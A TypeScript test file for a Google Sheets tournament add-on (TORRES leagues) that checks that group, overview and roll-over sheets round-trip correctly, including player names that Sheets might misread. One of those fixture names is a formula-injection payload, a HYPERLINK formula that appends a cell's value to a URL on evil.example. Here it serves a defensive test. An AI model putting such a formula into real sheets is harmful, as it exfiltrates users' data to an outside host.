/**
 * Round trips of the TORRES sheet kinds: parse(readSheet(applyPlan(plan(spec)))) gives back the spec, at the smallest
 * and largest sizes the endpoints accept (a group of 3 and of 30 players; an overview of 1 group and of a 6-league
 * championship, 63 groups; a roll-over sheet of one group of 3 and of 630 players). Names Sheets would read as
 * something else (TRUE, 007, 'Tis, =1+1) come back as the same text. And the roll-over's reading of a season
 * recomputes the standings from the typed games: TORRESRANK's cells, still "Loading…", are never read.
 */
import { applyPlan } from '../../../shared/server/applyPlan';
import { readSheet } from '../../../shared/server/readSheet';
import { ADDON_KIND_KEY } from '../../../shared/sheets/read';
import { asSpreadsheet, installFakeGas } from '../../../../test/helpers/fakeGas';
import { leagueGroups } from '../rules/leagues';
import { torresStandings } from '../rules/rank';
import { rollOver } from '../rules/rollover';
import { torresSchedule } from '../rules/schedule';
import { buildTorresGroupPlan, TORRES_GROUP } from '../sheets/group';
import { parseGroupSheet, scheduledGameCount } from '../sheets/groupSheet';
import { GROUP } from '../sheets/layout';
import { buildTorresOverviewPlan, OVERVIEW, parseOverview, TORRES_OVERVIEW } from '../sheets/overview';
import { buildTorresRollOverPlan, MOVE_WORDS, parseRollOver, TORRES_ROLLOVER } from '../sheets/rollOver';
import { groupSpecs, type TorresSeason } from '../sheets/season';
import { createTorresGroups, readTorresOverview } from './endpoints';
import { MAX_GROUP_SIZE } from './input';
import { asGames, scheduledGames, seasonPoints, typePoints } from './testHelpers';

const ODD = ['TRUE', '007', "'Tis", '=1+1', '=HYPERLINK("http://evil.example/?"&A2,"x")', '1850', "O'Neil"];
const names = (prefix: string, n: number): string[] =>
  Array.from({ length: n }, (_, i) => (prefix === '' && i < ODD.length ? ODD[i] : `${prefix || 'P'}${i + 1}`));

function season(sizes: number[], leagues?: number[]): TorresSeason {
  return {
    title: '=Season 1',
    seed: '0042',
    vpByPlace: [8, 4, 2, 1],
    eloOrder: 'high',
    elo: { TRUE: 1850, '007': 1700.5 },
    groups: sizes.map((n, i) => ({ league: leagues?.[i] ?? i + 1, group: 1, players: i === 0 ? names('', n) : names(`G${i}-`, n) })),
  };
}

describe('round trip: the group sheet', () => {
  it.each([3, MAX_GROUP_SIZE])('%i players: settings, games, Elo list and record come back', (n) => {
    const gas = installFakeGas();
    const [spec] = groupSpecs(season([n]));
    const sheet = applyPlan(asSpreadsheet(gas), buildTorresGroupPlan({ ...spec, league: 2, leagues: 3 }, 'G'));
    const { group, problems } = parseGroupSheet(readSheet(sheet));
    expect(problems).toEqual([]);
    expect(group).toEqual({
      sheet: 'G',
      title: '=Season 1',
      league: 2,
      group: 1,
      leagues: 3,
      players: n,
      seats: spec.games.reduce((s, g) => s + g.length, 0),
      vpByPlace: [8, 4, 2, 1],
      eloOrder: 'high',
      games: spec.games.map((g) => g.map((p, seat) => ({ seat, name: spec.players[p], points: null, typed: false }))),
      roster: spec.players.map((name, i) => ({
        name,
        ...(spec.elo[name] !== undefined ? { elo: spec.elo[name] } : {}),
        withdrawn: false,
        status: '',
        row: GROUP.firstGameRow + i,
      })),
      fictitious: [],
      leftOut: [],
      settingsRead: true,
      entered: 0,
    });
  });

  it('typed points come back as points, D 95 as a delayed score; a typo is named by its cell', () => {
    const gas = installFakeGas();
    const [spec] = groupSpecs(season([4]));
    const sheet = applyPlan(asSpreadsheet(gas), buildTorresGroupPlan(spec, 'G'));
    const games = scheduledGames(gas.book.sheet('G'), spec.games.length);
    typePoints(gas.book.sheet('G'), [
      [100, 'D 95', 90, 80],
      ['9O', 1, 2, 3],
    ]);
    const { group, problems } = parseGroupSheet(readSheet(sheet));
    expect(group!.games[0].map((s) => [s.name, s.points])).toEqual([
      [games[0][0], 100],
      [games[0][1], { delayed: 95 }],
      [games[0][2], 90],
      [games[0][3], 80],
    ]);
    expect(group!.entered).toBe(8);
    expect(problems).toEqual([
      `"G" C${GROUP.firstGameRow + 1}: "9O" is not points; type the particular points (a whole number, 0 to 9999), or D and the score at the last completed year (D 95).`,
    ]);
    // the game with the slip is left out of the standings (its players still listed), as TORRESRANK leaves it out
    expect(group!.leftOut).toEqual([{ game: 1, names: false }]);
  });

  it("a sheet without the add-on's record is refused", () => {
    const gas = installFakeGas();
    const sheet = asSpreadsheet(gas).insertSheet('Mine');
    sheet.addDeveloperMetadata(ADDON_KIND_KEY, TORRES_GROUP.kind);
    expect(parseGroupSheet(readSheet(sheet)).problems).toEqual([
      '"Mine" is not a TORRES group sheet made by the add-on (its record of league, group and players is missing).',
    ]);
  });

  it("the number of games the parser reads is the schedule's, for every accepted size", () => {
    for (let v = 3; v <= MAX_GROUP_SIZE; v++) expect([v, scheduledGameCount(v)]).toEqual([v, torresSchedule(v, `s${v}`).games.length]);
  });
});

describe('round trip: the league overview', () => {
  const championship = (leagues: number): TorresSeason => {
    const groups = Array.from({ length: leagues }, (_, k) =>
      Array.from({ length: leagueGroups(k + 1) }, (_, g) => ({ league: k + 1, group: g + 1, players: names(`p${k + 1}-${g + 1}-`, 10) })),
    ).flat();
    return { ...season([]), groups };
  };

  it.each([
    ['1 group of 3', { ...season([3]) }],
    ['6 leagues, 63 groups', championship(6)],
  ])("%s: the title, leagues and every group's block come back", (_, s) => {
    const gas = installFakeGas();
    const specs = groupSpecs(s);
    const sheetNames = specs.map((g) => `S L${g.league} G${g.group}`);
    const sheet = applyPlan(asSpreadsheet(gas), buildTorresOverviewPlan(s.title, s.seed, specs, sheetNames, 'S leagues'));
    const { overview, problems } = parseOverview(readSheet(sheet));
    expect(problems).toEqual([]);
    let row = OVERVIEW.firstRow;
    expect(overview).toEqual({
      sheet: 'S leagues',
      title: s.title,
      leagues: specs[specs.length - 1].league,
      groups: specs.map((g, i) => {
        const block = { league: g.league, group: g.group, sheet: sheetNames[i], firstRow: row, rows: g.players.length };
        row += g.players.length;
        return block;
      }),
      settings: [],
    });
    expect(readSheet(sheet).kind).toBe(TORRES_OVERVIEW.kind);
  });
});

describe('round trip: the roll-over sheet', () => {
  const big = () => {
    const previous = Array.from({ length: 6 }, (_, k) =>
      Array.from({ length: leagueGroups(k + 1) }, (_, g) => ({ league: k + 1, group: g + 1, players: names(`p${k + 1}-${g + 1}-`, 10) })),
    ).flat();
    return rollOver(
      { previous, newPlayers: names('n', 30).map((name, i) => ({ name, elo: 1500 + i })), unregistered: ['p2-1-3'], withdrawn: ['p3-2-9'] },
      'big',
    );
  };
  const small = () => rollOver({ previous: [{ league: 1, group: 1, players: names('', 3) }], newPlayers: [] }, 'small');

  it.each([
    ['one group of 3', small],
    ['6 leagues, 630 players', big],
  ])('%s: title, seed, every move and every new group come back', (_, make) => {
    const gas = installFakeGas();
    const result = make();
    const groupSheets = result.leagues.map((g) => `S2 L${g.league} G${g.group}`);
    const sheet = applyPlan(asSpreadsheet(gas), buildTorresRollOverPlan('=S2', result, groupSheets, 'S2 roll-over'));
    const grid = readSheet(sheet);
    expect(grid.kind).toBe(TORRES_ROLLOVER.kind);
    const { rollOver: parsed, problems } = parseRollOver(grid);
    expect(problems).toEqual([]);
    const where = (p?: { league: number; group: number; place?: number }) =>
      p ? `L${p.league} G${p.group}${p.place !== undefined ? ` #${p.place}` : ''}` : '';
    expect(parsed).toEqual({
      title: '=S2',
      seed: result.seed,
      moves: result.moves.map((m) => ({ player: m.player, move: MOVE_WORDS[m.kind], from: where(m.from), to: where(m.to), reason: m.reason })),
      groups: result.leagues.map((g, i) => ({ league: g.league, group: g.group, sheet: groupSheets[i], players: g.players })),
    });
  });
});

describe('reading a season for the roll-over', () => {
  it("recomputes the standings from the typed games: TORRESRANK's cells are never read", () => {
    const gas = installFakeGas();
    createTorresGroups({ title: 'S', groups: [names('', 4), names('B', 5)], seed: 'rb', elo: [{ name: 'TRUE', elo: 1500 }] });
    const expected = ['S L1', 'S L2'].map((name) => {
      const sheet = gas.book.sheet(name);
      const games = scheduledGames(sheet, scheduledGameCount(name === 'S L1' ? 4 : 5));
      const points = seasonPoints(games, name, true);
      typePoints(sheet, points);
      // Sheets has not computed the custom function yet: its cell shows "Loading…" and nothing spills.
      sheet.getRange(GROUP.headerRow, GROUP.standingsColumn).setValue('Loading…');
      return torresStandings(names(name === 'S L1' ? '' : 'B', name === 'S L1' ? 4 : 5), asGames(games, points), {
        elo: new Map(name === 'S L1' ? [['TRUE', 1500]] : []),
      });
    });
    const read = readTorresOverview({ sheet: 'S leagues' });
    expect(read.previous).toEqual(
      expected.map((standings, i) => ({
        league: i + 1,
        group: 1,
        players: standings.map((s) => s.player),
        results: standings.map((s) => ({ rank: s.rank, vp: s.vp, difference: s.difference, points: s.points })),
      })),
    );
    expect(read.title).toBe('S');
    expect(read.elo).toEqual([{ name: 'TRUE', elo: 1500 }]);
  });
});
